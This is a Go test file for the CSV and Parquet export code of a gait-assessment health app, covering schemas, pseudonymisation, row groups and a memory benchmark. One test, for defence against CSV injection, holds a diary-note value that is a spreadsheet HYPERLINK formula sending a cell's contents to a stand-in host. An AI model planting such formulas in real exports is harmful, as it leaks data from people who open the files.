package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"iter"
	"reflect"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/parquet-go/parquet-go"
	"github.com/parquet-go/parquet-go/format"

	"legwork"
)

func seqOf[T any](xs []T) iter.Seq2[T, error] {
	return func(yield func(T, error) bool) {
		for _, x := range xs {
			if !yield(x, nil) {
				return
			}
		}
	}
}

func intp(v int) *int { return &v }

var cet = time.FixedZone("CET", 3600)

func sampleAssessments() []*legwork.Assessment {
	return []*legwork.Assessment{
		{ID: 7, PersonID: 42, TestType: legwork.TestT25FW, Placement: "lower_back", Device: legwork.DeviceCane,
			RecordedAt: time.Date(2024, 3, 1, 9, 30, 0, 123456789, cet), Source: "legwork", AlgorithmVersion: "legwork-gait/1",
			Metrics: map[string]float64{"t25fw_time_s": 6.8, "cadence_spm": 104.25, "steps": 14}},
		{ID: 8, PersonID: 43, TestType: legwork.TestBalance, Placement: "lower_back", Device: legwork.DeviceNone,
			RecordedAt: time.Date(2024, 3, 2, 10, 0, 0, 0, time.UTC), Source: "axivity", AlgorithmVersion: "legwork-gait/1",
			Metrics: map[string]float64{"sway_rms_ms2": 0.12}},
	}
}

func sampleDiary() []*legwork.DiaryEntry {
	return []*legwork.DiaryEntry{
		{ID: 3, PersonID: 42, At: time.Date(2024, 3, 1, 20, 0, 0, 0, cet), Severity: intp(6), Fatigue: intp(7),
			Sensations: []string{"heavy", "jelly"}, SensationOther: "mud", Leg: "both", TimeOfDay: "evening",
			Triggers: []string{"heat"}, Notes: "met Paul"},
		{ID: 4, PersonID: 42, At: time.Date(2024, 3, 2, 8, 0, 0, 0, cet), Fall: &legwork.Fall{Kind: "near_fall", Circumstances: "stairs", Injured: true}},
	}
}

func sampleInterventions() []*legwork.Intervention {
	end := time.Date(2024, 3, 31, 0, 0, 0, 0, time.UTC)
	return []*legwork.Intervention{
		{ID: 1, PersonID: 42, Kind: legwork.InterventionPhysicalTherapy, Name: "Physio, twice weekly", StartDate: time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC), EndDate: &end, Notes: "Dr. Miller"},
		{ID: 2, PersonID: 42, Kind: legwork.InterventionAssistiveDevice, Name: "Cane", Device: legwork.DeviceCane, StartDate: time.Date(2024, 2, 1, 0, 0, 0, 0, time.UTC)},
	}
}

func collect[T any](t *testing.T, seq iter.Seq2[T, error]) []T {
	t.Helper()
	var out []T
	for r, err := range seq {
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// roundTrip writes rows as Parquet and reads them back with parquet-go.
func roundTrip[R Row](t *testing.T, rows []R, opt Options) ([]R, *parquet.File) {
	t.Helper()
	var buf bytes.Buffer
	n, err := WriteParquet(&buf, seqOf(rows), opt)
	if err != nil || n != len(rows) {
		t.Fatalf("wrote %d of %d rows: %v", n, len(rows), err)
	}
	got, err := parquet.Read[R](bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	f, err := parquet.OpenFile(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	return got, f
}

func TestMetricsParquet(t *testing.T) {
	rows := collect(t, Metrics(seqOf(sampleAssessments()), nil))
	if len(rows) != 4 || rows[0].Metric != "cadence_spm" || rows[0].PersonID != "42" {
		t.Fatalf("rows %+v", rows)
	}
	got, f := roundTrip(t, rows, Options{})
	if len(got) != len(rows) {
		t.Fatalf("read %d rows", len(got))
	}
	for i := range rows {
		// timestamps keep microseconds, in UTC
		want := rows[i]
		want.RecordedAt = want.RecordedAt.Truncate(time.Microsecond)
		if !got[i].RecordedAt.Equal(want.RecordedAt) {
			t.Errorf("row %d: time %v, want %v", i, got[i].RecordedAt, want.RecordedAt)
		}
		got[i].RecordedAt, want.RecordedAt = time.Time{}, time.Time{}
		if got[i] != want {
			t.Errorf("row %d: %+v, want %+v", i, got[i], want)
		}
	}
	// The stored value is microseconds since the epoch (what DuckDB and
	// pandas read), not only something parquet-go reads back.
	type raw struct {
		RecordedAt int64 `parquet:"recorded_at,timestamp(microsecond:utc)"`
	}
	var rbuf bytes.Buffer
	WriteParquet(&rbuf, seqOf(rows), Options{})
	rr, err := parquet.Read[raw](bytes.NewReader(rbuf.Bytes()), int64(rbuf.Len()))
	if err != nil || rr[0].RecordedAt != rows[0].RecordedAt.UnixMicro() {
		t.Errorf("raw timestamp %v (%v), want %d", rr, err, rows[0].RecordedAt.UnixMicro())
	}
	schema := f.Schema().String()
	for _, want := range []string{"TIMESTAMP(isAdjustedToUTC=true,unit=MICROS)", "double value", "int64 assessment_id", "STRING"} {
		if !strings.Contains(schema, want) {
			t.Errorf("schema lacks %q:\n%s", want, schema)
		}
	}
	for _, rg := range f.Metadata().RowGroups {
		for _, c := range rg.Columns {
			if c.MetaData.Codec != format.Zstd {
				t.Errorf("column %v compressed with %v", c.MetaData.PathInSchema, c.MetaData.Codec)
			}
		}
	}
}

func TestDiaryAndInterventionsParquet(t *testing.T) {
	drows := collect(t, Diary(seqOf(sampleDiary()), nil))
	got, f := roundTrip(t, drows, Options{})
	if !reflect.DeepEqual(got, drows) {
		t.Errorf("diary rows read back\n%+v\nwritten\n%+v", got, drows)
	}
	if *got[0].Severity != 6 || got[1].Severity != nil || !*got[1].FallInjured || got[1].FallCircumstances != "stairs" {
		t.Errorf("diary rows %+v", got)
	}
	if s := f.Schema().String(); !strings.Contains(s, "optional int32 severity") || !strings.Contains(s, "LIST") {
		t.Errorf("diary schema:\n%s", s)
	}
	irows := collect(t, Interventions(seqOf(sampleInterventions()), nil))
	igot, f := roundTrip(t, irows, Options{})
	if !reflect.DeepEqual(igot, irows) {
		t.Errorf("intervention rows read back\n%+v\nwritten\n%+v", igot, irows)
	}
	if igot[0].StartDate.String() != "2024-03-01" || igot[0].StartDate != 19783 || igot[0].EndDate == nil ||
		!igot[0].EndDate.Time().Equal(time.Date(2024, 3, 31, 0, 0, 0, 0, time.UTC)) || igot[1].EndDate != nil {
		t.Errorf("intervention rows %+v", igot)
	}
	if s := f.Schema().String(); !strings.Contains(s, "int32 start_date (DATE)") {
		t.Errorf("intervention schema:\n%s", s)
	}
}

func TestRowGroups(t *testing.T) {
	var as []*legwork.Assessment
	for i := range 250 {
		as = append(as, &legwork.Assessment{ID: int64(i), PersonID: int64(i % 7), TestType: legwork.TestWalk, RecordedAt: time.Unix(1.7e9+int64(i)*60, 0),
			Metrics: map[string]float64{"cadence_spm": 100 + float64(i%10), "steps": float64(i), "walking_speed_mps": 1.1}})
	}
	rows := collect(t, Metrics(seqOf(as), nil))
	got, f := roundTrip(t, rows, Options{RowGroupRows: 100})
	if len(got) != 750 {
		t.Fatalf("%d rows", len(got))
	}
	if n := len(f.RowGroups()); n != 8 {
		t.Errorf("%d row groups of at most 100 rows, want 8", n)
	}
	for _, rg := range f.RowGroups() {
		if rg.NumRows() > 100 {
			t.Errorf("row group of %d rows", rg.NumRows())
		}
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	n, err := WriteCSV(&buf, Metrics(seqOf(sampleAssessments()), nil))
	if err != nil || n != 4 {
		t.Fatalf("%d rows, %v", n, err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(recs[0], ",") != "person_id,assessment_id,recorded_at,test_type,assistive_device,placement,metric,value,algorithm_version,source" {
		t.Errorf("header %v", recs[0])
	}
	if want := []string{"42", "7", "2024-03-01T08:30:00.123456Z", "t25fw", "cane", "lower_back", "cadence_spm", "104.25", "legwork-gait/1", "legwork"}; !slices.Equal(recs[1], want) {
		t.Errorf("row %v, want %v", recs[1], want)
	}
	buf.Reset()
	if _, err := WriteCSV(&buf, Diary(seqOf(sampleDiary()), nil)); err != nil {
		t.Fatal(err)
	}
	recs, _ = csv.NewReader(&buf).ReadAll()
	if want := []string{"42", "3", "2024-03-01T19:00:00.000000Z", "6", "7", "heavy;jelly", "mud", "both", "evening", "heat", "", "", "", "met Paul"}; !slices.Equal(recs[1], want) {
		t.Errorf("diary row %q, want %q", recs[1], want)
	}
	buf.Reset()
	if _, err := WriteCSV(&buf, Interventions(seqOf(sampleInterventions()), nil)); err != nil {
		t.Fatal(err)
	}
	recs, _ = csv.NewReader(&buf).ReadAll()
	if want := []string{"42", "1", "physical_therapy", "Physio, twice weekly", "", "2024-03-01", "2024-03-31", "Dr. Miller"}; !slices.Equal(recs[1], want) {
		t.Errorf("intervention row %q, want %q", recs[1], want)
	}
}

func TestPseudonymised(t *testing.T) {
	if _, err := NewPseudonymizer([]byte("short")); err == nil {
		t.Error("a 5-byte secret was accepted")
	}
	secret := []byte("0123456789abcdef0123456789abcdef")
	pz, _ := NewPseudonymizer(secret)
	pz2, _ := NewPseudonymizer(secret)
	other, _ := NewPseudonymizer([]byte("another secret, also 32 bytes..."))
	p := pz.Pseudonym(42)
	if p != pz2.Pseudonym(42) || p == pz.Pseudonym(43) || p == other.Pseudonym(42) || len(p) != 34 || strings.Contains(p, "42") {
		t.Errorf("pseudonyms %q %q %q %q", p, pz2.Pseudonym(42), pz.Pseudonym(43), other.Pseudonym(42))
	}
	var buf bytes.Buffer
	WriteCSV(&buf, Metrics(seqOf(sampleAssessments()), pz))
	WriteCSV(&buf, Diary(seqOf(sampleDiary()), pz))
	WriteCSV(&buf, Interventions(seqOf(sampleInterventions()), pz))
	out := buf.String()
	for _, leak := range []string{",42,", "\n42,", "\n43,", "Paul", "mud", "stairs", "Miller", "Physio, twice weekly"} {
		if strings.Contains(out, leak) {
			t.Errorf("pseudonymised export contains %q", leak)
		}
	}
	if !strings.Contains(out, p) {
		t.Error("the pseudonym is missing")
	}
}

func TestIteratorError(t *testing.T) {
	boom := errors.New("store failed")
	failing := func(yield func(*legwork.Assessment, error) bool) {
		if !yield(sampleAssessments()[0], nil) {
			return
		}
		yield(nil, boom)
	}
	if _, err := WriteParquet(&bytes.Buffer{}, Metrics(failing, nil), Options{}); !errors.Is(err, boom) {
		t.Errorf("parquet: %v", err)
	}
	if n, err := WriteCSV(&bytes.Buffer{}, Metrics(failing, nil)); !errors.Is(err, boom) || n != 3 {
		t.Errorf("csv: %d rows, %v", n, err)
	}
}

// BenchmarkCohortParquet writes cohorts of 200 and 2 000 people × 50
// assessments × 10 metrics (100 000 and 1 million rows) from an iterator,
// pseudonymised, to a writer that discards the file: the heap the runtime
// holds (MB-heap-sys) stays at about one row group whatever the cohort's
// size.
func BenchmarkCohortParquet(b *testing.B) {
	names := []string{"cadence_spm", "steps", "walking_speed_mps", "stride_length_m", "step_time_s", "stride_time_s", "step_time_cv_pct", "stride_time_cv_pct", "step_regularity", "symmetry"}
	for _, people := range []int{200, 2000} {
		b.Run(fmt.Sprintf("%dpeople", people), func(b *testing.B) {
			cohort := func(yield func(*legwork.Assessment, error) bool) {
				a := &legwork.Assessment{TestType: legwork.TestWalk2Min, Placement: "lower_back", Device: legwork.DeviceNone, Source: "legwork", AlgorithmVersion: "legwork-gait/1", Metrics: map[string]float64{}}
				for p := range people {
					for k := range 50 {
						a.ID, a.PersonID = int64(p*50+k), int64(p)
						a.RecordedAt = time.Unix(1.7e9+int64(k)*86400, 0)
						for i, n := range names {
							a.Metrics[n] = float64(p%100) + float64(i) + float64(k)/50
						}
						if !yield(a, nil) {
							return
						}
					}
				}
			}
			pz, _ := NewPseudonymizer([]byte("0123456789abcdef"))
			var w countingWriter
			b.ReportAllocs()
			for b.Loop() {
				w = 0
				n, err := WriteParquet(&w, Metrics(cohort, pz), Options{})
				if err != nil || n != people*500 {
					b.Fatal(n, err)
				}
			}
			runtime.GC()
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			b.ReportMetric(float64(w)/(1<<20), "MB-file")
			b.ReportMetric(float64(ms.HeapSys)/(1<<20), "MB-heap-sys")
		})
	}
}

type countingWriter int64

func (c *countingWriter) Write(p []byte) (int, error) {
	*c += countingWriter(len(p))
	return len(p), nil
}

func ExampleWriteCSV() {
	var buf bytes.Buffer
	as := []*legwork.Assessment{{ID: 1, PersonID: 5, TestType: legwork.TestT25FW, Placement: "lower_back", Device: legwork.DeviceNone,
		RecordedAt: time.Date(2024, 3, 1, 9, 0, 0, 0, time.UTC), Source: "legwork", AlgorithmVersion: "legwork-gait/1",
		Metrics: map[string]float64{"t25fw_time_s": 5.9}}}
	WriteCSV(&buf, Metrics(seqOf(as), nil))
	fmt.Print(buf.String())
	// Output:
	// person_id,assessment_id,recorded_at,test_type,assistive_device,placement,metric,value,algorithm_version,source
	// 5,1,2024-03-01T09:00:00.000000Z,t25fw,none,lower_back,t25fw_time_s,5.9,legwork-gait/1,legwork
}

// TestCSVFormulaText: free text people type (diary notes, their own words,
// fall circumstances, intervention names and notes) that starts with =, +,
// -, @, a tab or a carriage return is read by Excel and LibreOffice as a
// formula ("-2 after the stairs" shows as #NAME?, "=HYPERLINK(…)" runs).
// OWASP's "CSV Injection" guidance: prefix such a cell with a single
// quote, which spreadsheets show as text. Numbers and codes stay as they
// are (a negative metric value must still read as a number). Text typed
// with a leading quote gets one more, so that taking one quote off gives
// back what was typed.
func TestCSVFormulaText(t *testing.T) {
	e := &legwork.DiaryEntry{ID: 5, PersonID: 42, At: time.Date(2024, 3, 3, 8, 0, 0, 0, time.UTC), Severity: intp(3),
		SensationOther: "+pins and needles", Notes: `=HYPERLINK("http://example.org/?"&A2,"x")`,
		Fall: &legwork.Fall{Kind: "fall", Circumstances: "-2 steps from the top"}}
	iv := &legwork.Intervention{ID: 3, PersonID: 42, Kind: legwork.InterventionOther, Name: "@home stretching",
		StartDate: time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC), Notes: "\tindented"}
	a := &legwork.Assessment{ID: 9, PersonID: 42, TestType: legwork.TestWalk2Min, RecordedAt: time.Date(2024, 3, 3, 9, 0, 0, 0, time.UTC),
		Metrics: map[string]float64{"cadence_decline_pct": -4.5}}

	var buf bytes.Buffer
	if _, err := WriteCSV(&buf, Diary(seqOf([]*legwork.DiaryEntry{e}), nil)); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := map[string]string{}
	for i, c := range recs[0] {
		row[c] = recs[1][i]
	}
	for col, want := range map[string]string{"sensation_other": "'+pins and needles", "notes": `'=HYPERLINK("http://example.org/?"&A2,"x")`,
		"fall_circumstances": "'-2 steps from the top", "severity": "3", "fall_kind": "fall"} {
		if row[col] != want {
			t.Errorf("diary %s = %q, want %q", col, row[col], want)
		}
	}

	// Removing one leading quote gives back what was typed, also for text
	// typed with a leading quote.
	for _, typed := range []string{"'tis hard", "''", "-2", "fine", "", "'"} {
		got := text(typed)
		if strings.HasPrefix(got, "'") {
			got = got[1:]
		}
		if got != typed {
			t.Errorf("text(%q) = %q: one quote off gives %q", typed, text(typed), got)
		}
	}

	buf.Reset()
	if _, err := WriteCSV(&buf, Interventions(seqOf([]*legwork.Intervention{iv}), nil)); err != nil {
		t.Fatal(err)
	}
	recs, _ = csv.NewReader(&buf).ReadAll()
	if recs[1][3] != "'@home stretching" || recs[1][7] != "'\tindented" {
		t.Errorf("intervention name %q, notes %q", recs[1][3], recs[1][7])
	}

	buf.Reset()
	if _, err := WriteCSV(&buf, Metrics(seqOf([]*legwork.Assessment{a}), nil)); err != nil {
		t.Fatal(err)
	}
	recs, _ = csv.NewReader(&buf).ReadAll()
	if recs[1][7] != "-4.5" {
		t.Errorf("value %q, want -4.5 (a number, not text)", recs[1][7])
	}
}
